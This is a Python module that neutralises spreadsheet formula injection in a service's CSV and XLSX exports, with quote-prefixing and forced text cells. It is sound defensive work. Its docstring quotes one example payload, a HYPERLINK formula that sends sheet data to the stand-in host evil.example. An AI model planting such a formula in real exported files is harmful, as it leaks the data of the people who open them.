"""Cells for the CSV and XLSX files the service writes, safe to open in a spreadsheet.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula ("CSV injection"): a market renamed
`=HYPERLINK("http://evil.example/?x="&A1,"Chợ A")` would reach region staff as a live link that
sends the sheet's data away. Following OWASP's advice such text is prefixed with a single quote
in CSV; in XLSX it is written as a text cell (never a formula) with the quote-prefix style, which
is what Excel itself records when a user types a leading apostrophe: the value stays exactly the
text. Numbers stay numbers, and text that is just a number ("-1500", "-12,5") is left alone: a
spreadsheet reads it as that number and nothing else.
"""

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)*")
# Characters an XLSX cell cannot hold (openpyxl refuses them with an error; they have no meaning).
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def needs_escape(text: str) -> bool:
    """Whether a spreadsheet would read `text` as a formula."""
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def csv_cell(value):
    """One CSV cell: text that would be a formula gets a leading quote; anything else unchanged."""
    if isinstance(value, str) and needs_escape(value):
        return "'" + value
    return value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def set_xlsx_cell(sheet, row: int, column: int, value):
    """Write `value` into an openpyxl sheet's cell and return the cell; text is always a text
    cell (data_type 's': never a formula or an error code), quote-prefixed when it looks like a
    formula."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        value = _NOT_IN_XLSX.sub("\ufffd", value)
        cell.value = value
        cell.data_type = "s"
        if needs_escape(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell
